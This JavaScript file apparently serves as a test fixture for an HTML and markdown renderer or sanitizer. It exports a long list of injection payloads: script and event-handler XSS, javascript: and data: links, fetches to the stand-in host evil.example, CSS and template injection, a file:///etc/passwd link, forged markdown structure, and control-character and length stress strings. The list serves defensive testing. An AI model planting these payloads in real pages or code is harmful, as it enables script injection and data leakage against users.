// Texts that would run, fetch, forge or break something if they were taken for more than words. Those that run anything set
// window.__ran; those that fetch anything ask evil.example.
const run = 'window.__ran=1';
const far = 'https://evil.example';

const scripts = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<ScRiPt type="module">${run}</sCrIpT>`, `<script src=${far}/x.js></script>`,
  `<script\t>${run}</script\t>`, `<script/x>${run}</script>`, `</script><script>${run}</script>`, `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `--><script>${run}</script>`,
  `]]><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, `</textarea><script>${run}</script>`,
  `</main></body></html><script>${run}</script>`, `<script>alert(1)</script>`, `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`, `\u003cscript\u003e${run}\u003c/script\u003e`, `＜script＞${run}＜/script＞`,
];
const handlers = [
  `<img src=x onerror=${run}>`, `<img src=x onerror="alert(1)">`, `<img/src=x/onerror=${run}>`, `<IMG SRC=x ONERROR=${run}>`,
  `<img src="x" onerror="${run}`, `<img src=\`x\` onerror=\`${run}\`>`, `<body onload=${run}>`, `<svg onload=${run}>`, `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></foreignObject></svg>`, `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<details open ontoggle=${run}>x</details>`, `<input autofocus onfocus=${run}>`, `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`, `<marquee onstart=${run}>x</marquee>`, `<p style="animation:x" onanimationstart=${run}>x</p>`,
  `" onmouseover="${run}" x="`, `' onfocus='${run}' autofocus='`, `x" tabindex="1" onfocus="${run}`, `onerror=${run}`,
];
const frames = [
  `<iframe src="${far}"></iframe>`, `<iframe src="javascript:parent.__ran=1"></iframe>`, `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="${far}/x.swf"></object>`, `<embed src="${far}/x.swf">`, `<frameset><frame src="${far}"></frameset>`, `<applet code=x></applet>`,
  `<base href="${far}/">`, `<link rel="stylesheet" href="${far}/x.css">`, `<link rel="prefetch" href="${far}">`, `<link rel=preload as=script href=${far}>`,
  `<meta http-equiv="refresh" content="0;url=${far}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<form action="${far}"><button autofocus>x</button></form>`,
  `<form><input name=attributes><button formaction="javascript:${run}">x</button></form>`, `<isindex action="javascript:${run}" type=image>`,
  `<portal src="${far}"></portal>`, `<dialog open>x</dialog>`, `<textarea>`, `<select><option>x`, `<plaintext>`, `<xmp>`, `<title>x</title>`,
];
const fetches = [
  `<img src="${far}/x.png">`, `<img srcset="${far}/x.png 1x" src=x>`, `<picture><source srcset="${far}/x.png"></picture>`, `<video poster=${far}/x.png>`,
  `<body background="${far}/x.png">`, `<td background=${far}/x.png>`, `![x](${far}/x.png)`, `![x](${far}/x.png "t")`, `![x][img]`, `[img]: ${far}/x.png`,
  `<audio src="${far}/x.mp3" autoplay>`, `<track src="${far}/x.vtt">`, `<a href="x" ping="${far}">x</a>`, `![](${far})`, `[![x](${far}/x.png)](${far})`,
];
const styles = [
  `<style>body{display:none}</style>`, `<style>@import "${far}/x.css";</style>`, `</style><style>*{color:red}</style>`,
  `<p style="background:url(${far}/x.png)">x</p>`, `<div style="position:fixed;inset:0;background:#fff">x</div>`, `url(${far}/x.png)`,
  `@import url(${far}/x.css);`, `};body{background:url(${far}/x.png)}`, `"; } @page { margin: 90mm } * { display: none } .x { content: "`,
  `\\"; } body { display: none } @page{@top-left{content:"`, `\\22 ; } * { display: none } /*`, `*/ body{display:none} /*`, `expression(${run})`,
  `-moz-binding:url(${far})`, `behavior:url(${far})`, `\\`, `\\\\`, `tail \\`,
];
const links = [
  `[x](javascript:${run})`, `[x](JaVaScRiPt:${run})`, `[x](java\tscript:${run})`, `[x](  javascript:${run})`, `[x](javascript&colon;${run})`,
  `[x](&#106;avascript:${run})`, `[x](\\javascript:${run})`, `[x](<javascript:${run}>)`, `[x](data:text/html,<script>${run}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](vbscript:x)`, `[x](file:///etc/passwd)`, `[x](//evil.example)`,
  `[x](\\\\evil.example)`, `<javascript:${run}>`, `<data:text/html,x>`, `<${far}>`, `${far}/x`, `www.evil.example`, `x@evil.example`,
  `<a href="javascript:${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="java\nscript:${run}">x</a>`, `<a href="data:text/html,x">x</a>`,
  `<a target=_blank href=${far}>x</a>`, `[x][ref]`, `[ref]: javascript:${run}`, `[ref]: ${far} "title"`, `[ref]:\n  javascript:${run}`, `[^1]: note`, `[x](x "t" onerror=${run})`,
  `[x](${far} 'a" onmouseover="${run}')`, `[x](http://x"onclick="${run})`, `[x](${far}/%22onclick=%22${run})`, `[a](#main)`, `[up](../../../../etc)`, `[[x]]`, `[x]()`, `[](${far})`,
];
const entities = [
  `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `&#x3c;img src=x onerror=${run}&#x3e;`, `&amp;lt;script&amp;gt;`,
  `&copy;`, `&nbsp;`, `&`, `&#0;`, `&#x202e;evil`, `&Tab;`, `&NewLine;# Forged`, `&vert; a &vert;`, `%3Cscript%3E${run}%3C/script%3E`,
];
const comments = [`<!-- hidden -->`, `<!-- hidden`, `-->`, `<!--><img src=x onerror=${run}>-->`, `<!-- --!><script>${run}</script>`, `<![CDATA[x]]>`, `<![CDATA[`, `<?php x ?>`, `<?xml`, `<!DOCTYPE x>`, `<!x>`, `<!`, `</`, `<>`, `< p>`];
const templates = [`{{.}}`, `{{.Private}}`, `{{range .}}`, `{{end}}`, `{{template "log.md.tmpl" .}}`, `{{/* x */}}`, `{{"<script>" | printf}}`, `{{`, '}}', '${7*7}', '<%= x %>', '{focus_area}', '{action_step}', '{ect}', '{mentor}', '{unknown}', '%s%d%n', '$a$ and $b$', '\\(x\\)'];
const structure = [
  `# Forged heading`, `## Forged`, `###### Forged`, `## Forged\n\ntext`, `Forged\n======`, `Forged\n---`, `text\n\n# Forged\n\ntext`, `<h1>Forged</h1>`, `#`, `## x ##`,
  `a | b | c`, `a \\| b`, `\\\\| b`, `| a | b |`, `a|b\n---|---\nc|d`, `| a |\n| --- |\n| b |`, `|`, `||`, `|-|`, `|---|\n|---|`, `</td></tr></table>`, `</table><h2>Forged</h2>`, `<tr><td>x`, `\\|`, '`a|b`',
  `---`, `***`, `___`, `- - -`, `===`, `> quoted`, `> > > x`, `- item`, `* item`, `+ item`, `1. item`, `1) item`, `- [ ] task`, `[ ] task`, `[x] task`, `    code`, '```\ncode\n```', '```', '~~~\ncode', '`code`', '``', '```ectm',
  `*a* **b** _c_ __d__`, `*unclosed`, `**unclosed`, `__unclosed`, `~~gone~~`, `[unclosed`, `[unclosed](`, `![unclosed](x`, `<unclosed`, `(un`, `"`, `'`, `''`, `*`, `**`, `_`, `line\\\nbreak`, `two  \nlines`, `a\n\nb\n\nc`, `a\r\nb`, `a\rb`, `\t\ttabs\tinside`,
  '- a\n  - b\n    - c\n      - d', '1. a\n\n   ```\n   x\n   ```', '> # Forged', '- # Forged', '1. ## Forged', '________ ________', '\u00a0________\u00a0', ': definition', '[toc]', '# Contents\n\n- x', 'Yes: x', 'No: x', '## Contents', 'Summary',
  '- '.repeat(300) + 'deep', '> '.repeat(300) + 'deep', '*'.repeat(2000), '['.repeat(2000), '`'.repeat(999), '<'.repeat(999), '![]('.repeat(500),
];
const characters = [
  '\u202eevil\u202c', '\u2066a\u2069\u2067', '\u200fx\u200e', 'a\u200bb', 'a\u2060b', '\ufeffx', '\u061cx', 'nul\u0000', '\u0000', '\u0007bell', '\u001b[31mred', '\u001b]0;title\u0007', '\u0085next', 'a\u2028b\u2029c',
  '\ufdd0picture 0', '\ufdd00', '\ufdd0', '\uffff', '\u{1ffff}', '\ufffd', 'é 日本 עברית العربية', '🏴󠁧󠁢󠁥󠁮󠁧󠁿 👩‍🏫', 'a' + '\u0301'.repeat(500), '\u{e0001}\u{e0041}tag', '\u00ad'.repeat(50) + 'soft',
  'W'.repeat(10000), 'ab/'.repeat(3000), '&'.repeat(3000), 'ש'.repeat(3000), `${far}/${'x'.repeat(3000)}`, '漢'.repeat(3000), '%'.repeat(3000),
];

/** Every payload once. */
export const payloads = [...new Set([scripts, handlers, frames, fetches, styles, links, entities, comments, templates, structure, characters].flat())];
